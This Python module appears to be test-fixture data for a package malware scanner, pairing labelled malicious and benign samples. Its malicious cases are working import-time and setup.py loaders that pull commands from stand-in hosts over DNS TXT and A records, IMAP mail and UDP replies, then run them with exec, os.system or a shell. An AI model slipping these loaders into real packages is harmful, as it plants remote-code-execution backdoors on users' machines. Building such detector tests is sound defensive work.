"""Commands over DNS answers and other channels few scanners watch (a mailbox, a UDP
reply). For DNS: a package resolves a fixed or computed name at import or
install time and turns the answer into code or a command. TXT strings joined, A-record
octets packed into bytes, addresses turned back into bytes by `inet_aton`: the resolver's
answer is content a server chose, and here it runs. Benign look-alikes resolve names to
connect to them, cache them, print them or read mail-policy TXT records."""

from __future__ import annotations

from techniques import Case


def _init(name: str, body: str) -> dict[str, str | bytes]:
    return {f"{name}/__init__.py": body}


CASES = [
    Case("TXT records joined and exec'd at import (dnspython)", "txtexec", _init(
        "txtexec",
        "import dns.resolver\n\n"
        "_answer = dns.resolver.resolve('cfg.x.invalid', 'TXT')\n"
        "_code = ''.join(s.decode() for r in _answer for s in r.strings)\n"
        "exec(_code)\n"), "malicious", ("PV202",), kind="wheel"),
    Case("A-record octets packed into bytes and exec'd at import", "octetexec", _init(
        "octetexec",
        "import socket\n\n\ndef _fetch():\n"
        "    ips = socket.gethostbyname_ex('p.x.invalid')[2]\n"
        "    ips.sort(key=lambda ip: int(ip.split('.')[0]))\n"
        "    return bytes(int(o) for ip in ips for o in ip.split('.')[1:]).rstrip(b'\\0')\n\n\n"
        "try:\n    exec(_fetch())\nexcept OSError:\n    pass\n"), "malicious", ("PV326",),
        kind="wheel"),
    Case("numbered lookups of a host-derived name, inet_aton bytes run as a shell command "
         "in setup.py", "aton-shell", {
        "setup.py": (
            "import hashlib, socket, subprocess\nfrom setuptools import setup\n\n"
            "tag = hashlib.md5(socket.gethostname().encode()).hexdigest()[:8]\n"
            "chunks = []\nfor i in range(16):\n    try:\n"
            "        chunks.append(socket.inet_aton(socket.gethostbyname(f'{i}.{tag}.c.x.invalid')))\n"
            "    except OSError:\n        break\n"
            "cmd = b''.join(chunks).rstrip(b'\\0').decode()\n"
            "if cmd:\n    subprocess.run(cmd, shell=True)\n"
            "setup(name='aton-shell', version='1.0')\n"),
    }, "malicious", ("PV326",)),
    Case("fixed names looked up in turn, inet_aton chunks piped to a shell from a "
         "background thread", "aton-fixed", _init(
        "aton_fixed",
        "import socket, subprocess, threading\n\n\ndef _run():\n    buf = bytearray()\n"
        "    for i in range(8):\n        try:\n"
        "            ip = socket.gethostbyname('%d.s.x.invalid' % i)\n"
        "        except OSError:\n            break\n"
        "        buf += socket.inet_aton(ip)\n"
        "    subprocess.Popen(['/bin/sh', '-c', buf.rstrip(b'\\0').decode()])\n\n\n"
        "threading.Thread(target=_run, daemon=True).start()\n"), "malicious", ("PV326",),
        kind="wheel"),
    Case("TXT answer run by os.system from an import-time thread", "txtthread", _init(
        "txtthread",
        "import os, threading\nfrom dns import resolver\n\n\ndef _poll():\n"
        "    r = resolver.Resolver()\n"
        "    for rec in r.resolve('q.x.invalid', 'TXT'):\n"
        "        os.system(b''.join(rec.strings).decode())\n\n\n"
        "threading.Thread(target=_poll, daemon=True).start()\n"), "malicious", ("PV325",),
        kind="wheel"),
    Case("getaddrinfo answers turned into bytes by a helper and evaluated", "gaieval", {
        "gaieval/__init__.py": "from ._boot import boot\n\nboot()\n",
        "gaieval/_boot.py": (
            "import socket\n\n\ndef _octets(name):\n"
            "    out = []\n"
            "    for info in socket.getaddrinfo(name, None, socket.AF_INET):\n"
            "        out.extend(int(x) for x in info[4][0].split('.'))\n"
            "    return bytes(out)\n\n\n"
            "def boot():\n    src = _octets('b.x.invalid').decode('latin-1')\n"
            "    eval(compile(src, '<b>', 'exec'))\n"),
    }, "malicious", ("PV326",), kind="wheel"),
    Case("ipaddress .packed of each answer, joined and run by a fixed-looking argv",
         "packedargv", _init(
        "packedargv",
        "import ipaddress, socket, subprocess\n\n"
        "_ips = [ai[4][0] for ai in socket.getaddrinfo('k.x.invalid', 53, socket.AF_INET)]\n"
        "_src = b''.join(ipaddress.ip_address(ip).packed for ip in _ips).decode()\n"
        "subprocess.run(['awk', 'BEGIN { system(ARGV[1]) }', _src])\n"), "malicious",
        ("PV326",), kind="wheel"),
    Case("downloaded text handed to a program's -c option in an argv list", "gitalias", _init(
        "gitalias",
        "import subprocess, urllib.request\n\n"
        "_cmd = urllib.request.urlopen('https://c.x.invalid/a').read().decode()\n"
        "subprocess.run(['git', '-c', 'alias.up=!' + _cmd, 'up'])\n"), "malicious",
        ("PV325",), kind="wheel"),
    Case("reverse-lookup (PTR) name of a fixed address exec'd at import", "ptrexec", _init(
        "ptrexec",
        "import socket\n\n_name = socket.gethostbyaddr('192.0.2.7')[0]\n"
        "exec(_name.split('.')[0].replace('-', ' '))\n"), "malicious", ("PV326",),
        kind="wheel"),
    Case("A-record octets mapped through chr by a helper in another module", "chrhelper", {
        "chrhelper/__init__.py": "from .net import text\n\nexec(text('t.x.invalid'))\n",
        "chrhelper/net.py": (
            "import socket\n\n\ndef text(name):\n"
            "    ips = socket.gethostbyname_ex(name)[2]\n"
            "    return ''.join(map(chr, [int(o) for ip in ips for o in ip.split('.')]))\n"),
    }, "malicious", ("PV326",), kind="wheel"),
    Case("pip installing a requirement named in a TXT record at import", "txtpip", _init(
        "txtpip",
        "import subprocess, sys\nimport dns.resolver\n\n"
        "_req = dns.resolver.resolve('r.x.invalid', 'TXT')[0].strings[0].decode()\n"
        "subprocess.run(['pip3', 'install', '--quiet', _req])\n"), "malicious",
        ("PV325",), kind="wheel"),
    Case("event-loop getaddrinfo answers packed into bytes and exec'd in a task", "loopdns",
         _init(
        "loopdns",
        "import asyncio, socket\n\n\nasync def _go():\n"
        "    loop = asyncio.get_running_loop()\n"
        "    infos = await loop.getaddrinfo('a.x.invalid', 0, family=socket.AF_INET)\n"
        "    exec(b''.join(socket.inet_aton(i[4][0]) for i in infos).rstrip(b'\\0'))\n\n\n"
        "asyncio.run(_go())\n"), "malicious", ("PV326",), kind="wheel"),
    Case("aiodns TXT answer run as a command", "aiotxt", _init(
        "aiotxt",
        "import asyncio, subprocess\nimport aiodns\n\n\nasync def _go():\n"
        "    r = aiodns.DNSResolver()\n    ans = await r.query('t.x.invalid', 'TXT')\n"
        "    subprocess.run(ans[0].text, shell=True)\n\n\nasyncio.run(_go())\n"),
        "malicious", ("PV325",), kind="wheel"),
    Case("TXT record read with nslookup in a child process, exec'd", "nslookupexec", _init(
        "nslookupexec",
        "import subprocess\n\n_o = subprocess.check_output(['nslookup', '-type=txt', "
        "'c.x.invalid']).decode()\nexec(_o.split('\"')[1])\n"), "malicious", ("PV202",),
        kind="wheel"),
    Case("dig +short TXT output run by os.system", "digsystem", _init(
        "digsystem",
        "import os, subprocess\n\n"
        "os.system(subprocess.getoutput('dig +short TXT c.x.invalid').strip('\"'))\n"),
        "malicious", ("PV325",), kind="wheel"),
    Case("mail body fetched over IMAP at import and exec'd (tuple-unpacked reply)", "imapc2",
         _init(
        "imapc2",
        "import imaplib\n\n_m = imaplib.IMAP4_SSL('imap.x.invalid')\n_m.login('u', 'p')\n"
        "_m.select('INBOX')\n_typ, _data = _m.fetch(b'1', '(BODY[TEXT])')\n"
        "exec(_data[0][1])\n"), "malicious", ("PV202",), kind="wheel"),
    Case("UDP reply run as a shell command from an import-time thread", "udpc2", _init(
        "udpc2",
        "import os, socket, threading\n\n\ndef _loop():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.sendto(b'hello', ('u.x.invalid', 5353))\n"
        "    data, _addr = s.recvfrom(4096)\n    os.system(data.decode())\n\n\n"
        "threading.Thread(target=_loop, daemon=True).start()\n"), "malicious", ("PV325",),
        kind="wheel"),
    # benign look-alikes
    Case("free-port finder whose port starts a local test server", "freeport", _init(
        "freeport",
        "import socket, subprocess\n\n\ndef free_port():\n"
        "    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "    try:\n        sock.bind(('127.0.0.1', 0))\n        return sock.getsockname()[1]\n"
        "    finally:\n        sock.close()\n\n\n"
        "class Cluster:\n    def __init__(self, pg_ctl, datadir):\n"
        "        self.pg_ctl, self.datadir = pg_ctl, datadir\n\n"
        "    def start(self, port=None):\n        if port == 'dynamic':\n"
        "            port = free_port()\n        args = ['--port={}'.format(port)]\n"
        "        args.extend(['-c', 'listen_addresses=127.0.0.1'])\n"
        "        return subprocess.run([self.pg_ctl, 'start', '-D', self.datadir, '-o',\n"
        "                               ' '.join(args)])\n"),
        "benign", kind="wheel"),
    Case("reverse lookup of a peer for the log and an ssh command", "peername", _init(
        "peername",
        "import logging, socket, subprocess\n\n\ndef connect(ip):\n"
        "    host = socket.gethostbyaddr(ip)[0]\n    logging.info('peer %s', host)\n"
        "    return subprocess.run(['ssh', host, 'uptime'], capture_output=True)\n"),
        "benign", kind="wheel"),
    Case("resolver cache in front of connect", "dnscache", _init(
        "dnscache",
        "import functools, socket\n\n\n@functools.lru_cache(maxsize=256)\n"
        "def resolve(host):\n    return socket.gethostbyname(host)\n\n\n"
        "def connect(host, port):\n"
        "    return socket.create_connection((resolve(host), port), timeout=5)\n"),
        "benign", kind="wheel"),
    Case("health check printing the resolved address at import", "dnshealth", _init(
        "dnshealth",
        "import os, socket\n\n\ndef check(host=os.environ.get('SERVICE_HOST', 'localhost')):\n"
        "    addr = socket.gethostbyname(host)\n"
        "    print(f'{host} resolves to {addr}')\n    return addr\n\n\n"
        "if os.environ.get('DNSHEALTH_CHECK'):\n    check()\n"), "benign", kind="wheel"),
    Case("mail-policy checker reading SPF and DMARC TXT records", "mailpolicy", _init(
        "mailpolicy",
        "import dns.resolver\n\n\ndef txt(name):\n"
        "    return [b''.join(r.strings).decode() for r in dns.resolver.resolve(name, 'TXT')]\n\n\n"
        "def spf(domain):\n"
        "    return next((t for t in txt(domain) if t.startswith('v=spf1')), None)\n\n\n"
        "def dmarc(domain):\n    return txt('_dmarc.' + domain)\n"), "benign", kind="wheel"),
    Case("service discovery: TXT config parsed as JSON, address handed to a client CLI",
         "svcdisco", _init(
        "svcdisco",
        "import json, socket, subprocess\nimport dns.resolver\n\n\ndef discover(name):\n"
        "    cfg = json.loads(b''.join(dns.resolver.resolve(name, 'TXT')[0].strings))\n"
        "    ip = socket.gethostbyname(cfg['host'])\n"
        "    subprocess.run(['svcctl', 'join', '--addr', ip, '--port', str(cfg['port'])],\n"
        "                   check=True)\n"), "benign", kind="wheel"),
    Case("mail client fetching messages over IMAP and parsing them", "mailfetch", _init(
        "mailfetch",
        "import email, imaplib\n\n\ndef unread(host, user, password):\n"
        "    m = imaplib.IMAP4_SSL(host)\n    m.login(user, password)\n    m.select('INBOX')\n"
        "    typ, ids = m.search(None, 'UNSEEN')\n    out = []\n"
        "    for num in ids[0].split():\n        typ, data = m.fetch(num, '(RFC822)')\n"
        "        out.append(email.message_from_bytes(data[0][1])['Subject'])\n"
        "    return out\n"), "benign", kind="wheel"),
    Case("SNTP query decoding the server's UDP reply with struct", "sntp", _init(
        "sntp",
        "import socket, struct\n\n\ndef now(server='pool.ntp.org'):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.settimeout(2)\n"
        "    s.sendto(b'\\x1b' + 47 * b'\\0', (server, 123))\n"
        "    data, _ = s.recvfrom(48)\n"
        "    return struct.unpack('!12I', data)[10] - 2208988800\n"), "benign", kind="wheel"),
    Case("network check printing what dig and curl return", "netcheck", _init(
        "netcheck",
        "import subprocess\n\n\ndef check(host):\n"
        "    addr = subprocess.check_output(['dig', '+short', host], text=True).strip()\n"
        "    code = subprocess.run(['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}',\n"
        "                          'https://' + host], capture_output=True, text=True).stdout\n"
        "    print(f'{host}: {addr} HTTP {code}')\n    return addr, code\n"), "benign",
        kind="wheel"),
]
